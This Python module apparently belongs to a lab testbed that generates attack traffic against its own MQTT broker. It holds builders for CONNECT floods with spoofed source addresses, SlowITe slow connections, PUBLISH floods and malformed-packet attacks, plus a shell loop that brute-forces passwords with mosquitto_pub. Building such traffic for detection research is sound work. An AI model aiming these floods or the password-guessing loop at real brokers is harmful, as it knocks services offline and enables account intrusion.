"""Attacks on the broker: CONNECT floods, PUBLISH floods, malformed data. Builders like those of `attacks`.

All but one run `converter.testbed.hostile`, which writes MQTT by hand: client libraries refuse to send
what these attacks consist of. Counts are messages, not packets.
"""

from random import Random

from converter.testbed.attacks import Attack, Builder, Command, own
from converter.testbed.layout import Host, Ward

MALFORMED = (
    "remaining_length",
    "protocol_name",
    "protocol_level",
    "connect_flags",
    "qos3",
    "wildcard_topic",
    "type15",
    "type0",
    "empty_subscribe",
    "long_topic",
    "second_connect",
    "first_not_connect",
    "packet_id_zero",
    "bad_flags",
    "short_body",
    "server_packet",
    "bad_utf8",
    "random",
)
"""What `hostile.mqtt_malformed` can send; each breaks one rule of the protocol, `random` many."""


def _sources(rng: Random, ward: Ward, host: Host, many: int) -> list[str]:
    """The host's own address first, then `many - 1` free ones of the subnet that no other attacker takes."""
    taken = {h.ip for h in ward.hosts}
    attackers = ward.of("attacker")
    mine = range(2 + attackers.index(host), 254, len(attackers))
    free = [a for n in mine if (a := f"{ward.subnet}.{n}") not in taken]
    return [host.ip, *rng.sample(free, many - 1)]


def connect_flood(
    *, many: int = 1, hold: bool = False, tls: bool = False, slow: bool = False
) -> Builder:
    """CONNECT after CONNECT, each on a connection of its own, closed at once or held."""

    def build(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
        broker = ward.named("broker")
        rates = (
            (20.0, 40.0) if tls else (3.0, 6.0, 12.0) if slow else (30.0, 60.0, 120.0, 300.0, 800.0)
        )
        rate = rng.choice(rates)
        count = int(min(1_800, rate * (rng.uniform(15, 25) if slow else rng.uniform(5, 10))))
        port = ward.tls_port if tls and ward.tls_port else ward.mqtt_port
        commands = [
            own(
                a,
                "mqtt_connect",
                30,
                dst=broker.ip,
                port=port,
                rate=rate / len(attackers),
                count=count // len(attackers),
                hold=hold,
                tls=tls and bool(ward.tls_port),
                keep_alive=rng.choice((0, 10, 60, 600)),
                level=rng.choice((4, 4, 5)),
                sources=_sources(rng, ward, a, many),
                user="",
                seed=rng.randrange(2**31),
            )
            for a in attackers
        ]
        return Attack(
            commands=commands,
            victims=[broker.ip],
            expect_s=count / rate * 1.2 + 1,
            distributed=many > 1 or len(attackers) > 1,
            ports=[port],
        )

    return build


def brute_force(rates: tuple[float, ...], *, seconds: tuple[float, float] = (10, 16)) -> Builder:
    """Guessed passwords against the listener that wants one: every CONNECT is refused."""

    def build(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
        broker, rate = ward.named("broker"), rng.choice(rates)
        count = int(rate * rng.uniform(*seconds))
        command = own(
            attackers[0],
            "mqtt_connect",
            45,
            dst=broker.ip,
            port=ward.auth_port,
            rate=rate,
            count=count,
            hold=False,
            tls=False,
            keep_alive=60,
            level=4,
            sources=[attackers[0].ip],
            user=rng.choice(("admin", "ward", "device")),
            seed=rng.randrange(2**31),
        )
        return Attack(
            commands=[command],
            victims=[broker.ip],
            expect_s=count / rate + 1,
            ports=[ward.auth_port],
        )

    return build


def brute_force_pub(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
    """The same by Debian's mosquitto_pub in a shell loop: a second tool's rhythm."""
    broker, count = ward.named("broker"), rng.randrange(60, 160)
    guess = f'mosquitto_pub -h {broker.ip} -p {ward.auth_port} -u ward -P "guess$i" -t ward/x -m 1'
    loop = f"i=0; while [ $i -lt {count} ]; do i=$((i+1)); {guess}; sleep 0.03; done"
    command = Command(host=attackers[0].name, argv=["sh", "-c", loop], limit_s=30)
    return Attack(
        commands=[command], victims=[broker.ip], expect_s=count * 0.06 + 1, ports=[ward.auth_port]
    )


def slow_connect(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
    """SlowITe: connections with the longest keep-alive, many CONNECTs cut over two segments, all held."""
    broker, rate = ward.named("broker"), rng.choice((8.0, 25.0, 80.0, 400.0, 1000.0))
    count = int(min(450, rate * rng.uniform(8, 14)))
    hold_s = rng.uniform(3, 8)
    command = own(
        attackers[0],
        "mqtt_slow",
        45,
        dst=broker.ip,
        port=ward.mqtt_port,
        rate=rate,
        count=count,
        hold_s=hold_s,
        cut=rng.choice((0.3, 0.7, 1.0)),
        keep_alive=65535,
        seed=rng.randrange(2**31),
    )
    return Attack(
        commands=[command],
        victims=[broker.ip],
        expect_s=count / rate + hold_s + 1,
        ports=[ward.mqtt_port],
    )


def publish_flood(
    *, qos: int, coalesce: bool, connections: tuple[int, ...], size: tuple[int, ...]
) -> Builder:
    """PUBLISH on a few connections: small, or coalesced into full segments (`fill` bytes a write)."""

    def build(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
        broker = ward.named("broker")
        rate = rng.choice((1_500.0, 3_000.0, 8_000.0) if coalesce else (200.0, 400.0, 800.0))
        messages = int(rate * rng.uniform(4, 9))
        share = len(attackers)
        commands = [
            own(
                a,
                "mqtt_publish",
                30,
                dst=broker.ip,
                port=ward.mqtt_port,
                qos=qos,
                rate=rate / share,
                messages=messages // share,
                connections=max(1, rng.choice(connections) // share),
                size=rng.choice(size),
                topic="a/b" if rate > 2_000 else rng.choice(("ward/alarm", "ward/vitals/x", "a/b")),
                fill=rng.choice((1_400, 1_400, 16_000)) if coalesce else 1,
                sources=[a.ip],
                seed=rng.randrange(2**31),
            )
            for a in attackers
        ]
        return Attack(
            commands=commands,
            victims=[broker.ip],
            expect_s=messages / rate * 1.2 + 1,
            distributed=share > 1,
            ports=[ward.mqtt_port],
        )

    return build


def publish_flood_paho(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
    """The same through paho: one ordinary client that publishes as fast as it is told to."""
    broker, rate = ward.named("broker"), rng.choice((200.0, 500.0))
    messages = int(rate * rng.uniform(5, 9))
    command = own(
        attackers[0],
        "paho_publish",
        30,
        dst=broker.ip,
        port=ward.mqtt_port,
        rate=rate,
        messages=messages,
        qos=rng.choice((0, 1)),
        size=rng.choice((20, 200)),
    )
    return Attack(
        commands=[command],
        victims=[broker.ip],
        expect_s=messages / rate + 1,
        ports=[ward.mqtt_port],
    )


def malformed(cases: tuple[str, ...], rates: tuple[float, ...]) -> Builder:
    """Control packets that break the protocol; `cases` empty: a few drawn from all of them."""

    def build(rng: Random, ward: Ward, attackers: list[Host]) -> Attack:
        broker, rate = ward.named("broker"), rng.choice(rates)
        chosen = list(cases) or rng.sample(MALFORMED, rng.randint(2, 6))
        count = int(rate * rng.uniform(6, 11))
        command = own(
            attackers[0],
            "mqtt_malformed",
            30,
            dst=broker.ip,
            port=ward.mqtt_port,
            rate=rate,
            count=count,
            cases=chosen,
            seed=rng.randrange(2**31),
        )
        return Attack(
            commands=[command],
            victims=[broker.ip],
            expect_s=count / rate + 1,
            ports=[ward.mqtt_port],
        )

    return build
